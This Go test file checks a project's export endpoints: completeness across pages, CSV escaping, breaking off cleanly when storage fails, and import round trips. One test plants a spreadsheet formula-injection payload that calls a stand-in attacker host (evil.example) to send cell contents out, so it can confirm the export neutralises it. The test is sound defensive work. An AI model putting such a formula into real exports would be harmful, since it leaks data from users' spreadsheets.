package handlers

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/tidemark/tidemark/pkg/api"
	"github.com/tidemark/tidemark/pkg/base/fault"
	"github.com/tidemark/tidemark/pkg/feed"
	"github.com/tidemark/tidemark/pkg/storage"
	"github.com/tidemark/tidemark/pkg/storage/storagetest"
)

// TestW12ExportIsWhole checks that an export has everything that the lists have on all their pages.
func TestW12ExportIsWhole(t *testing.T) {
	r := newRig(t)
	fill(t, r, exportPage+200)
	w := do(t, r, "GET", "/api/export/changes?order=oldest&format=jsonl", "")
	lines := json.NewDecoder(w.Body)
	n := 0
	for ; ; n++ {
		var c api.FeedChange
		if err := lines.Decode(&c); err == io.EOF {
			break
		} else if must(t, err); c.Title != "Page "+c.ItemID || c.ItemID != numberCell(n) && n > 0 {
			t.Fatalf("line %d is of %q", n, c.ItemID)
		}
	}
	if n != exportPage+200 {
		t.Errorf("%d changes", n)
	}
}

// TestW12NoFormulas checks that spreadsheets treat text of third parties as text, whatever its first character is.
func TestW12NoFormulas(t *testing.T) {
	r := newRig(t)
	title := `=HYPERLINK("https://evil.example/?"&A1)`
	must(t, r.v.Feed.Publish(t.Context(), feed.Group{ID: "g", Changes: []feed.Change{{At: r.now,
		Kind: feed.Content, ItemID: "1", Title: title, Passages: []feed.Passage{{Text: "+1, \"x\"\n-1", Op: "added"},
			{Text: "＝1", Op: "removed"}}}}}))
	rows, err := csv.NewReader(do(t, r, "GET", "/api/export/changes", "").Body).ReadAll()
	must(t, err)
	have := map[string]string{}
	for i, name := range rows[0] {
		have[name] = rows[1][i]
	}
	if have["title"] != "'"+title || have["added"] != "'+1, \"x\"\n-1" || have["removed"] != "'＝1" || have["id"] == "" {
		t.Errorf("%q", have)
	}
}

// TestW12ExportBreaksOff checks that a store which fails during an export closes the connection, so that nobody
// mistakes a part for the whole, and that a store which fails at once is reported.
func TestW12ExportBreaksOff(t *testing.T) {
	left := -1 // operations until the store fails; negative: never
	r := newRig(t, func(s storage.Store) storage.Store {
		return storagetest.Hooked(s, storagetest.Hooks{OnBefore: func(context.Context, storagetest.Call) error {
			if left--; left == -1 {
				left = 0
				return fault.New(fault.Unavailable, "storage is down")
			}
			return nil
		}})
	})
	fill(t, r, 3*exportPage)
	srv := httptest.NewServer(r)
	defer srv.Close()
	var out strings.Builder
	export := func() error {
		out.Reset()
		return api.Export(t.Context(), api.NewClient(srv.URL, "", nil), api.ExportChanges, api.ChangeExport{}, &out)
	}
	began := left
	must(t, export())
	whole, operations := out.Len(), began-left
	left = 0
	if p, ok := errors.AsType[*api.Problem](export()); !ok || p.Status != http.StatusServiceUnavailable || out.Len() > 0 {
		t.Errorf("failed at once: %v, %d bytes", p, out.Len())
	}
	left = operations / 2
	if err := export(); err == nil || !strings.Contains(err.Error(), "not all of it") || out.Len() == 0 ||
		out.Len() >= whole {
		t.Errorf("failed half way: %v, %d of %d bytes", err, out.Len(), whole)
	}
}

// TestW12ThereAndBack checks that an export can be imported elsewhere: it registers the same sources with the same
// tags.
func TestW12ThereAndBack(t *testing.T) {
	for _, format := range []string{"csv", "jsonl"} {
		here, there := newRig(t), newRig(t)
		do(t, here, "POST", "/api/AddUrlDocument", `{"urls":["https://port.example/ok/a","https://port.example/ok/b?x=1,2"],
			"tags":["sea land","c++"]}`)
		list := do(t, here, "GET", "/api/export/items?format="+format, "").Body.String()
		content, err := json.Marshal(api.ListImportRequest{Content: list})
		must(t, err)
		do(t, there, "POST", "/api/import", string(content))
		if again := do(t, there, "GET", "/api/export/items?format="+format, "").Body.String(); again != list {
			t.Errorf("%s:\n%s\n%s", format, list, again)
		}
	}
}
